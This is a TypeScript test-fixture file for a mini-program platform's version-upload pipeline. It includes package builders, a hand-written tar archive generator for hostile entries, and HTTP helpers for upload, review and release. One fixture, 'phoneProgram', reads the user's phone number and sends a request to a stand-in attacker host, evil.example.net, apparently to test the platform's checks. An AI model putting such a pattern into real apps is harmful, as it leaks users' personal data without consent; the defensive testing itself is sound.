import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { build } from '@plaza/compiler';
import type { Platform } from '../../platform.ts';
import { appsClient } from '../apps/testing.ts';

/**
 * Test fixtures: small mini programs built into real `.tgz` packages, and hand-made tar
 * archives for the hostile cases a real build never produces.
 */
export function buildPackage(files: Record<string, string>): Buffer {
  const dir = mkdtempSync(join(tmpdir(), 'plaza-version-src-'));
  try {
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(dir, 'src', path)), { recursive: true });
      writeFileSync(join(dir, 'src', path), content);
    }
    const result = build(join(dir, 'src'), { outDir: join(dir, 'out') });
    if (!result.archive) throw new Error(`fixture does not build: ${result.errors.map(String).join('\n')}`);
    return readFileSync(result.archive);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** A one-page program; `page` replaces the page's script. */
export function program(
  options: { page?: string; extra?: Record<string, string> } = {},
): Record<string, string> {
  return {
    'app.json': JSON.stringify({ pages: ['pages/index/index'] }),
    'app.js': 'App({});\n',
    'pages/index/index.json': '{}',
    'pages/index/index.ttml': '<view class="hello">{{greeting}}</view>\n',
    'pages/index/index.js': options.page ?? "Page({ data: { greeting: 'hello' } });\n",
    ...options.extra,
  };
}

export const goodProgram = () => program();

export const throwingProgram = () =>
  program({
    page: [
      'Page({',
      "  data: { greeting: 'hello' },",
      '  onLoad() {',
      "    throw new Error('the menu is empty');",
      '  },',
      '});',
      '',
    ].join('\n'),
  });

export const phoneProgram = () =>
  program({
    page: [
      'Page({',
      "  data: { greeting: 'hello' },",
      '  callMe() {',
      '    tt.getPhoneNumber({});',
      "    tt.request({ url: 'https://evil.example.net/collect' });",
      '  },',
      '});',
      '',
    ].join('\n'),
  });

interface TarEntry {
  path: string;
  content?: string | Buffer;
  type?: 'file' | 'symlink' | 'dir';
  linkTarget?: string;
}

/** A ustar archive, gzipped, written by hand so entries can be as hostile as a test needs. */
export function rawArchive(entries: TarEntry[]): Buffer {
  const blocks: Buffer[] = [];
  for (const entry of entries) {
    const body = Buffer.from(entry.content ?? '');
    const header = Buffer.alloc(512);
    header.write(entry.path, 0, 100, 'utf8');
    header.write('0000644\0', 100);
    header.write('0000000\0', 108);
    header.write('0000000\0', 116);
    header.write(
      `${(entry.type === 'file' || !entry.type ? body.length : 0).toString(8).padStart(11, '0')}\0`,
      124,
    );
    header.write('00000000000\0', 136);
    header.write('        ', 148);
    header.write(entry.type === 'symlink' ? '2' : entry.type === 'dir' ? '5' : '0', 156);
    if (entry.linkTarget) header.write(entry.linkTarget, 157, 100, 'utf8');
    header.write('ustar\0', 257);
    header.write('00', 263);
    let sum = 0;
    for (const byte of header) sum += byte;
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    blocks.push(header);
    if (entry.type === 'file' || !entry.type) {
      blocks.push(body, Buffer.alloc((512 - (body.length % 512)) % 512));
    }
  }
  blocks.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(blocks));
}

/** Over-HTTP helpers for the versions tests: uploads with raw bodies, the lifecycle steps. */
export function versionsClient(platform: Platform & { operatorSetup?: { url: string } | undefined }) {
  const apps = appsClient(platform);
  const { call } = apps;

  async function upload(
    appid: string,
    token: string | undefined,
    archive: Buffer,
    query: { version?: string; description?: string } = {},
    contentType = 'application/gzip',
  ) {
    const search = new URLSearchParams(query as Record<string, string>).toString();
    const res = await platform.app.inject({
      method: 'POST',
      url: `/api/apps/${appid}/versions${search ? `?${search}` : ''}`,
      headers: { 'content-type': contentType, ...(token ? { authorization: `Bearer ${token}` } : {}) },
      payload: archive,
    });
    return { status: res.statusCode, json: res.body ? res.json() : undefined, headers: res.headers };
  }

  async function expectOk(res: { status: number; json: unknown }, status: number, what: string) {
    if (res.status !== status) throw new Error(`${what}: ${res.status} ${JSON.stringify(res.json)}`);
    // biome-ignore lint/suspicious/noExplicitAny: tests read the route's JSON
    return res.json as any;
  }

  /** Uploads and submits, then runs the checks job; resolves with the version as read after. */
  async function uploadAndCheck(appid: string, token: string, archive: Buffer, version: string) {
    const up = await expectOk(await upload(appid, token, archive, { version }), 201, 'upload');
    const id = up.version.id as string;
    await expectOk(await call('POST', `/api/apps/${appid}/versions/${id}/submit`, { token }), 202, 'submit');
    await platform.jobs.workers.runDue();
    const read = (
      await expectOk(await call('GET', `/api/apps/${appid}/versions/${id}`, { token }), 200, 'read')
    ).version;
    return read;
  }

  async function approveAndRelease(
    appid: string,
    token: string,
    operator: string,
    id: string,
    percentage = 100,
  ) {
    await expectOk(
      await call('POST', `/api/review/versions/${id}/approve`, { token: operator }),
      200,
      'approve',
    );
    return expectOk(
      await call('POST', `/api/apps/${appid}/release`, { token, body: { version_id: id, percentage } }),
      200,
      'release',
    );
  }

  /** Blobs on disk: a refused upload must not add any. */
  function blobCount(): number {
    const root = join(platform.config.dataDir, 'blobs');
    try {
      return readdirSync(root, { recursive: true, withFileTypes: true }).filter(
        (e) => e.isFile() && !e.parentPath.endsWith('tmp'),
      ).length;
    } catch {
      return 0;
    }
  }

  return { ...apps, upload, expectOk, uploadAndCheck, approveAndRelease, blobCount };
}
